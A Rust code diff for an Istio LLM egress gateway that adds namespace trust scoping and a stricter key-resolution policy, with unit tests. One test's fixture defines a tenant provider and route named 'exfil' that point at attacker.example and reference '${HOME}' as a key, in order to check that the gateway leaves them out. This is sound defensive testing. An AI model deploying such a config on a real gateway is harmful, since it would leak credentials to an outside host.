@@ -15,10 +15,11 @@ use llm_egress_mesh::{
         AuthorizationPolicySpec, LlmProviderSpec, LlmRouteSpec, Named, Problem, RequestAuthenticationSpec,
         ResourceSet, Severity,
     },
+    scope::Scope,
     source::{ResourceSource, Stamp},
 };
 
-use crate::secrets::{self, Secret};
+use crate::secrets::{self, KeyPolicy, Secret};
 
 /// Who this gateway is, for selectors and policy scoping.
 #[derive(Debug, Clone)]
@@ -27,6 +28,22 @@ pub struct GatewayIdentity {
     pub labels: BTreeMap<String, String>,
     /// Istio's root namespace: its policies apply to every workload.
     pub root_namespace: String,
+    /// More namespaces trusted with providers (and keys), beyond the
+    /// gateway's own and the root namespace.
+    pub trusted_namespaces: Vec<String>,
+    /// Where provider keys may come from.
+    pub keys: KeyPolicy,
+}
+
+impl GatewayIdentity {
+    /// Which namespaces may publish what (see `llm_egress_mesh::scope`).
+    pub fn scope(&self) -> Scope {
+        Scope::new(
+            [self.namespace.clone(), self.root_namespace.clone()]
+                .into_iter()
+                .chain(self.trusted_namespaces.iter().cloned()),
+        )
+    }
 }
 
 /// A provider with its key resolved.
@@ -80,7 +97,7 @@ pub fn compile(
             continue;
         }
         let cfg = &p.spec.configs.default_config.open_ai_config;
-        match secrets::resolve(&cfg.api_key, &env) {
+        match secrets::resolve(&cfg.api_key, &me.keys, &env) {
             Ok(key) => {
                 let LlmProviderSpec { host, path, .. } = p.spec.clone();
                 compiled.providers.insert(
@@ -152,18 +169,18 @@ pub struct ConfigSource {
 pub type Loaded = (Compiled, Vec<PathBuf>);
 
 /// Loads and compiles the resources once. From the API, `${NAME}` keys come
-/// from the watched Secret first, then from the environment.
+/// from the watched Secret only; from a directory, from the environment.
 pub fn load(source: &ResourceSource, me: &GatewayIdentity) -> Result<Loaded, Vec<Problem>> {
-    let (set, problems) = source.load()?;
+    let (set, problems) = source.load(&me.scope())?;
     let key_files = set
         .providers
         .iter()
         .filter_map(|p| secrets::referenced_file(&p.spec.configs.default_config.open_ai_config.api_key))
         .collect();
     let kube = source.kube();
-    compile(set, problems, me, |k| {
-        kube.and_then(|kr| kr.secret_value(k))
-            .or_else(|| std::env::var(k).ok())
+    compile(set, problems, me, |k| match kube {
+        Some(kr) => kr.secret_value(k),
+        None => std::env::var(k).ok(),
     })
     .map(|c| (c, key_files))
 }
@@ -305,6 +322,8 @@ mod tests {
             namespace: "istio-system".into(),
             labels: BTreeMap::from([("istio".into(), "egressgateway".into())]),
             root_namespace: "istio-system".into(),
+            trusted_namespaces: Vec::new(),
+            keys: KeyPolicy::default(),
         }
     }
 
@@ -336,6 +355,40 @@ mod tests {
     }
 
     #[test]
+    fn a_tenant_provider_is_left_out_before_its_key_is_ever_looked_up() {
+        let dir = tempfile::tempdir().unwrap();
+        for f in ["egress-gw.yaml", "dashscope-qwen.yaml", "dashscope-route.yaml"] {
+            std::fs::copy(Path::new(SEEDS).join(f), dir.path().join(f)).unwrap();
+        }
+        std::fs::write(
+            dir.path().join("tenant.yaml"),
+            "apiVersion: istio.alibabacloud.com/v1beta1\nkind: LLMProvider\nmetadata: {name: exfil, namespace: team-a}\nspec:\n  host: attacker.example\n  configs: {defaultConfig: {openAIConfig: {apiKey: '${HOME}'}}}\n---\napiVersion: istio.alibabacloud.com/v1beta1\nkind: LLMRoute\nmetadata: {name: exfil, namespace: team-a}\nspec:\n  host: attacker.example\n  rules: [{backendRefs: [{providerHost: attacker.example}]}]\n",
+        )
+        .unwrap();
+        let looked_up = Mutex::new(Vec::new());
+        let (set, problems) = ResourceSource::Dir(dir.path().to_owned())
+            .load(&seed_identity().scope())
+            .unwrap();
+        let c = compile(set, problems, &seed_identity(), |k| {
+            looked_up.lock().unwrap().push(k.to_string());
+            (k == "API_KEY").then(|| "sk-seed".into())
+        })
+        .unwrap();
+        assert_eq!(*looked_up.lock().unwrap(), ["API_KEY"]);
+        assert_eq!(c.providers.keys().collect::<Vec<_>>(), ["dashscope.aliyuncs.com"]);
+        assert_eq!(c.routes.len(), 1);
+        let warnings: Vec<String> = c.warnings.iter().map(|w| w.to_string()).collect();
+        assert!(
+            warnings.iter().any(|w| w.contains("LLMProvider team-a/exfil")),
+            "{warnings:?}"
+        );
+        assert!(
+            warnings.iter().any(|w| w.contains("LLMRoute team-a/exfil")),
+            "{warnings:?}"
+        );
+    }
+
+    #[test]
     fn policies_of_other_gateways_and_namespaces_do_not_apply() {
         let mut set = ResourceSet::default();
         let p = set.add_text(
@@ -350,9 +403,18 @@ mod tests {
     #[test]
     fn invalid_change_keeps_last_good_configuration() {
         let dir = tempfile::tempdir().unwrap();
-        for f in ["egress-gw.yaml", "dashscope-route.yaml"] {
-            std::fs::copy(Path::new(SEEDS).join(f), dir.path().join(f)).unwrap();
-        }
+        std::fs::copy(
+            Path::new(SEEDS).join("egress-gw.yaml"),
+            dir.path().join("egress-gw.yaml"),
+        )
+        .unwrap();
+        // In the trusted namespace: a route there needs no provider to be accepted.
+        let route = std::fs::read_to_string(Path::new(SEEDS).join("dashscope-route.yaml")).unwrap();
+        let route = route.replace(
+            "name: dashscope-route",
+            "name: dashscope-route\n  namespace: istio-system",
+        );
+        std::fs::write(dir.path().join("dashscope-route.yaml"), route).unwrap();
         let src = ConfigSource::new(ResourceSource::Dir(dir.path().to_owned()), seed_identity()).unwrap();
         assert_eq!(src.check(), None);
         std::fs::write(dir.path().join("bad.yaml"), "apiVersion: istio.alibabacloud.com/v1beta1\nkind: LLMRoute\nmetadata: {name: x}\nspec: {rules: []}\n").unwrap();
